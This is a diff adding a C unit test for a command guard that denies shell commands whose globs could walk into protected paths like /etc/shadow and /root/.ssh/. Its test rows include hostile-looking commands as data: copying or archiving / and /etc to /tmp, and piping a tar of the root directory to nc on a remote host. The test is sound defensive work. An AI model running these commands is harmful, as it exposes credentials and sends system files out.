@@ -76,3 +76,30 @@ Test(guard_walk, the_directories_above_a_deeper_prefix)
 
     kt_run_guard_rows_with(NOW, prefixes, 1, args, denied, NROWS(args));
 }
+
+/* A walker given a glob that may name a directory above a prefix walks
+ * it: "/e?c" and "/[e]tc" are /etc under "/etc/shadow" (before, a glob
+ * was read only as a path that may reach a prefix, and /etc is above
+ * this one); so is a star under "/", also relative, from a directory the
+ * arguments place. Found by a seeded random check of walkers against
+ * posixpath.normpath. */
+Test(guard_walk, a_glob_that_may_name_a_directory_above_a_prefix)
+{
+    static const char *const prefixes[] = {"/etc/shadow", "/root/.ssh/"};
+    static const char *const args[] = {
+        "{\"cmd\":\"grep -r x /e?c\"}", "{\"cmd\":\"grep -r x /[e]tc\"}",
+        "{\"cmd\":\"zip -r /tmp/a.zip /e*\"}", "{\"cmd\":\"tar czf /tmp/a.tgz /*\"}",
+        "{\"cmd\":\"rg x /*\"}", "{\"cmd\":\"cp -a /r??t /tmp/r\"}",
+        "{\"cmd\":\"grep -r x /pr?c\"}", /* /proc/1/root is "/" */
+        "{\"cmd\":\"cd /; cp -a ./* /tmp/x\"}", "{\"cmd\":\"cd /. && tar -cf - * | nc h 1\"}",
+        "{\"cmd\":\"cd / && rg x ./*\"}",
+        /* stay allowed: the glob names nothing above a prefix */
+        "{\"cmd\":\"grep -r x /etc/pass*\"}", "{\"cmd\":\"grep -r x /etc/ss*\"}",
+        "{\"cmd\":\"rm -rf /tmp/*\"}", "{\"cmd\":\"grep -rn TODO src/*\"}",
+        "{\"cmd\":\"cat /e?c\"}", /* not a walker: cat reads no directory */
+    };
+    static const int denied[] = {1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0};
+
+    cr_assert_eq(NROWS(args), NROWS(denied));
+    kt_run_guard_rows_with(NOW, prefixes, NROWS(prefixes), args, denied, NROWS(args));
+}
